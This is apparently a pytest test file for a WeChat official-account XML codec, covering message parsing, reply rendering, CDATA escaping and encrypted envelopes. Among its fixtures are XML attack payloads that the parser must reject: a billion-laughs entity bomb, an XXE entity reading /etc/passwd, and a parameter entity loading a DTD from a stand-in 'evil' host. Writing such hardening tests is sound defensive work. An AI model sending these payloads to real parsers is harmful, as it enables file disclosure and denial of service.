"""Tests for channels.wechat.xml_codec: inbound parsing and reply rendering."""

import contextlib
import json
import xml.etree.ElementTree as ET

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from channels.wechat.crypto import WeChatCrypto
from channels.wechat.xml_codec import (
    MAX_XML_BYTES,
    Event,
    EventMessage,
    ImageMessage,
    LinkMessage,
    LocationMessage,
    OtherMessage,
    TextMessage,
    VoiceMessage,
    WeChatXmlError,
    custom_text_body,
    encrypt_reply,
    parse_envelope,
    parse_message,
    render_encrypted_reply,
    render_text_reply,
)

HEAD = (
    "<ToUserName><![CDATA[gh_0123456789ab]]></ToUserName>"
    "<FromUserName><![CDATA[oUser_openid_test]]></FromUserName>"
    "<CreateTime>1700000000</CreateTime>"
)


def _xml(body: str, head: str = HEAD) -> str:
    return f"<xml>{head}{body}</xml>"


def test_text_message_regression_vector() -> None:
    body = _xml(
        "<MsgType><![CDATA[text]]></MsgType><Content><![CDATA[查违章 粤B12345]]></Content>"
        "<MsgId>24000000000000001</MsgId>"
    )
    message = parse_message(body.encode("utf-8"))
    assert message == TextMessage(
        to_user="gh_0123456789ab",
        from_user="oUser_openid_test",
        create_time=1700000000,
        msg_id="24000000000000001",
        content="查违章 粤B12345",
    )
    assert message.dedupe_key == "24000000000000001"


def test_text_with_declaration_whitespace_and_traditional() -> None:
    body = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<xml>\n  '
        + HEAD
        + "\n  <MsgType>text</MsgType>\n  <Content>違章查詢 &amp; 駕駛證</Content>"
        "<MsgId>1</MsgId></xml>"
    )
    message = parse_message(body.encode("utf-8"))
    assert isinstance(message, TextMessage)
    assert message.content == "違章查詢 & 駕駛證"


def test_emoji_text_kept() -> None:
    body = _xml("<MsgType>text</MsgType><Content>/::) 👍🏻</Content><MsgId>2</MsgId>")
    message = parse_message(body)
    assert isinstance(message, TextMessage)
    assert message.content == "/::) 👍🏻"


def test_image() -> None:
    message = parse_message(
        _xml(
            "<MsgType><![CDATA[image]]></MsgType><PicUrl><![CDATA[http://mmbiz/x.jpg]]>"
            "</PicUrl><MediaId><![CDATA[media_1]]></MediaId><MsgId>3</MsgId>"
        )
    )
    assert isinstance(message, ImageMessage)
    assert (message.pic_url, message.media_id) == ("http://mmbiz/x.jpg", "media_1")


def test_voice_with_and_without_recognition() -> None:
    with_asr = parse_message(
        _xml(
            "<MsgType>voice</MsgType><MediaId>m</MediaId><Format>amr</Format>"
            "<Recognition><![CDATA[预约科目二]]></Recognition><MsgId>4</MsgId>"
        )
    )
    assert isinstance(with_asr, VoiceMessage)
    assert with_asr.recognition == "预约科目二"
    assert with_asr.format == "amr"
    without = parse_message(
        _xml(
            "<MsgType>voice</MsgType><MediaId>m</MediaId><Format>speex</Format><MsgId>5</MsgId>"
        )
    )
    assert isinstance(without, VoiceMessage)
    assert without.recognition is None


def test_location() -> None:
    message = parse_message(
        _xml(
            "<MsgType>location</MsgType><Location_X>22.543096</Location_X>"
            "<Location_Y>114.057865</Location_Y><Scale>15</Scale>"
            "<Label><![CDATA[福田区福中三路]]></Label><MsgId>6</MsgId>"
        )
    )
    assert isinstance(message, LocationMessage)
    assert (message.latitude, message.longitude, message.scale) == (
        22.543096,
        114.057865,
        15,
    )
    assert message.label == "福田区福中三路"


def test_link() -> None:
    message = parse_message(
        _xml(
            "<MsgType>link</MsgType><Title>办事指南</Title><Description>说明</Description>"
            "<Url>https://www.sz-sandbox.gov.cn</Url><MsgId>7</MsgId>"
        )
    )
    assert isinstance(message, LinkMessage)
    assert message.url == "https://www.sz-sandbox.gov.cn"


@pytest.mark.parametrize(
    ("event", "key", "expected"),
    [
        ("subscribe", None, Event.SUBSCRIBE),
        ("subscribe", "qrscene_123", Event.SUBSCRIBE),
        ("unsubscribe", None, Event.UNSUBSCRIBE),
        ("CLICK", "MENU_VIOLATIONS", Event.CLICK),
        ("VIEW", "https://www.sz-sandbox.gov.cn", Event.VIEW),
        ("SCAN", "123", Event.SCAN),
    ],
)
def test_events(event: str, key: str | None, expected: Event) -> None:
    key_xml = "" if key is None else f"<EventKey><![CDATA[{key}]]></EventKey>"
    message = parse_message(
        _xml(
            f"<MsgType><![CDATA[event]]></MsgType><Event><![CDATA[{event}]]></Event>{key_xml}"
        )
    )
    assert isinstance(message, EventMessage)
    assert message.event == expected
    assert message.event_key == key
    # Events have no MsgId: WeChat says to deduplicate on FromUserName + CreateTime.
    assert message.msg_id is None
    assert message.dedupe_key == "oUser_openid_test:1700000000"


def test_nested_event_fields_we_do_not_read_are_tolerated() -> None:
    message = parse_message(
        _xml(
            "<MsgType>event</MsgType><Event>pic_sysphoto</Event><EventKey>k</EventKey>"
            "<SendPicsInfo><Count>1</Count><PicList><item><PicMd5Sum>x</PicMd5Sum></item>"
            "</PicList></SendPicsInfo>"
        )
    )
    assert isinstance(message, EventMessage)
    assert message.event == "pic_sysphoto"


def test_unknown_types_are_other_messages() -> None:
    message = parse_message(
        _xml("<MsgType>video</MsgType><MediaId>m</MediaId><MsgId>8</MsgId>")
    )
    assert message == OtherMessage(
        to_user="gh_0123456789ab",
        from_user="oUser_openid_test",
        create_time=1700000000,
        msg_id="8",
        msg_type="video",
    )


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    "<xml><Content>&lol3;</Content></xml>"
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<xml>" + HEAD + "<MsgType>text</MsgType><Content>&xxe;</Content></xml>"
)
PARAMETER_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil/p.dtd">%p;]>'
    "<xml/>"
)


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (BILLION_LAUGHS, "forbidden"),
        (EXTERNAL_ENTITY, "forbidden"),
        (PARAMETER_ENTITY, "forbidden"),
        ("<!DOCTYPE xml><xml/>", "forbidden"),
        ("", "empty"),
        ("   ", "empty"),
        ("<xml>", "malformed"),
        ("not xml at all", "malformed"),
        ("<xml><a></b></xml>", "malformed"),
        (b"<xml><Content>\xff\xfe</Content></xml>", "malformed"),
        (b'<?xml version="1.0" encoding="GBK"?><xml/>', "unsupported"),
        ("<root>" + HEAD + "</root>", "root"),
        (_xml("<Content>x</Content><MsgId>1</MsgId>"), "missing MsgType"),
        ("<xml><MsgType>text</MsgType></xml>", "missing ToUserName"),
        (
            _xml("<MsgType>text</MsgType><Content>a</Content><Content>b</Content>"),
            "duplicate Content",
        ),
        (
            _xml("<MsgType>text</MsgType><Content>a<b>x</b></Content>"),
            "markup in Content",
        ),
        (_xml("<MsgType>text</MsgType>"), "missing Content"),
        (
            "<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName>"
            "<CreateTime>yesterday</CreateTime><MsgType>text</MsgType></xml>",
            "CreateTime",
        ),
        (_xml("<MsgType>text</MsgType><Content>a</Content><MsgId>-1</MsgId>"), "MsgId"),
        (_xml("<MsgType>location</MsgType><Location_X>nan</Location_X>"), "Location_X"),
        (_xml("<MsgType>location</MsgType><Location_X>abc</Location_X>"), "Location_X"),
        (_xml("<MsgType>event</MsgType>"), "missing Event"),
        (_xml("<MsgType>  </MsgType>"), "empty MsgType"),
        (
            "<xml><ToUserName>a</ToUserName><FromUserName></FromUserName>"
            "<CreateTime>1</CreateTime><MsgType>text</MsgType><Content>x</Content></xml>",
            "FromUserName",
        ),
        ("<xml>" + "x" * MAX_XML_BYTES + "</xml>", "too large"),
        ("<xml>\ud800</xml>", "Unicode"),
    ],
)
def test_bad_bodies_raise_typed_errors(body: str | bytes, reason: str) -> None:
    with pytest.raises(WeChatXmlError) as error:
        parse_message(body)
    assert reason in error.value.reason


def test_deeply_nested_body_is_bounded() -> None:
    body = "<xml>" + "<a>" * 5000 + "</a>" * 5000 + "</xml>"
    with pytest.raises(WeChatXmlError):
        parse_message(body)


def test_envelope() -> None:
    body = (
        "<xml><ToUserName><![CDATA[gh_0123456789ab]]></ToUserName>"
        "<Encrypt><![CDATA[jn1L23DB+6ELqJ==]]></Encrypt></xml>"
    )
    envelope = parse_envelope(body)
    assert envelope.encrypt == "jn1L23DB+6ELqJ=="
    assert envelope.to_user == "gh_0123456789ab"
    with pytest.raises(WeChatXmlError, match="missing Encrypt"):
        parse_envelope("<xml><ToUserName>x</ToUserName></xml>")
    with pytest.raises(WeChatXmlError, match="empty Encrypt"):
        parse_envelope("<xml><Encrypt>  </Encrypt></xml>")
    with pytest.raises(WeChatXmlError, match="forbidden"):
        parse_envelope(BILLION_LAUGHS)


def test_render_text_reply_round_trips_through_the_parser() -> None:
    xml = render_text_reply(
        "oUser_openid_test", "gh_0123456789ab", "已为您查询到2条违章。", 1700000001
    )
    root = ET.fromstring(xml)
    assert root.findtext("ToUserName") == "oUser_openid_test"
    assert root.findtext("FromUserName") == "gh_0123456789ab"
    assert root.findtext("CreateTime") == "1700000001"
    assert root.findtext("MsgType") == "text"
    assert root.findtext("Content") == "已为您查询到2条违章。"
    assert "<Content><![CDATA[已为您查询到2条违章。]]></Content>" in xml


@pytest.mark.parametrize(
    "content",
    ["a]]>b", "]]>", "]]]]>", "<b>&amp;</b>", "控制\x00字符\x1f", "😀 emoji", "違章"],
)
def test_cdata_escaping(content: str) -> None:
    xml = render_text_reply("o", "gh", content, 1)
    parsed = parse_message(xml.replace("</xml>", "<MsgId>1</MsgId></xml>"))
    assert isinstance(parsed, TextMessage)
    assert parsed.content == content.replace("\x00", "").replace("\x1f", "")


def test_reply_length_limit_is_2048_bytes() -> None:
    render_text_reply("o", "gh", "中" * 682, 1)
    with pytest.raises(ValueError):
        render_text_reply("o", "gh", "中" * 683, 1)
    with pytest.raises(ValueError):
        render_text_reply("o", "gh", "\x00", 1)


def test_encrypted_reply_envelope_round_trip() -> None:
    crypto = WeChatCrypto(
        "pamtest", "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG", "wxb11529c136998cb6"
    )
    reply = render_text_reply(
        "oUser_openid_test", "gh_0123456789ab", "好的", 1700000001
    )
    xml = encrypt_reply(
        crypto, reply, "1409304348", "xxxxxx", random=b"aaaabbbbccccdddd"
    )
    root = ET.fromstring(xml)
    encrypt = root.findtext("Encrypt") or ""
    signature = root.findtext("MsgSignature")
    assert root.findtext("TimeStamp") == "1409304348"
    assert root.findtext("Nonce") == "xxxxxx"
    assert (
        crypto.decrypt_message(signature, "1409304348", "xxxxxx", encrypt).decode()
        == reply
    )
    assert parse_envelope(xml).encrypt == encrypt


def test_official_sample_envelope_shape() -> None:
    xml = render_encrypted_reply(
        "jn1L23DB+6ELqJ+6bruv21Y6MD7KeIfP82D6gU39rmkgczbWwt5+3bnyg5K55bgVtVzd832WzZGMhkP72vVOfg==",
        "82c962d39941aa48552f90ef55aa323dc620cc10",
        "1409304348",
        "xxxxxx",
    )
    assert xml.startswith("<xml><Encrypt><![CDATA[jn1L23DB")
    assert (
        "<MsgSignature><![CDATA[82c962d39941aa48552f90ef55aa323dc620cc10]]></MsgSignature>"
        in xml
    )
    assert "<TimeStamp>1409304348</TimeStamp>" in xml
    with pytest.raises(ValueError):
        render_encrypted_reply("x", "y", "not-a-number", "n")


def test_custom_text_body() -> None:
    body = custom_text_body(
        "oUser_openid_test", "您的预约已成功，编号KS****0503。\ud800"
    )
    assert "预约".encode() in body  # UTF-8, not \\u escapes
    assert json.loads(body) == {
        "touser": "oUser_openid_test",
        "msgtype": "text",
        "text": {"content": "您的预约已成功，编号KS****0503。"},
    }


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300))
def test_property_arbitrary_bytes_never_crash(body: bytes) -> None:
    with contextlib.suppress(WeChatXmlError):
        parse_message(body)


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=200))
def test_property_rendered_content_parses_back(content: str) -> None:
    if not content or len(content.encode()) > 2048:
        return
    content = content.replace("\ufffe", "").replace("\uffff", "")
    if not content:
        return
    xml = render_text_reply("o", "gh", content, 1)
    parsed = parse_message(xml)
    assert isinstance(parsed, TextMessage)
    # XML parsers normalise line ends.
    assert parsed.content == content.replace("\r\n", "\n").replace("\r", "\n")
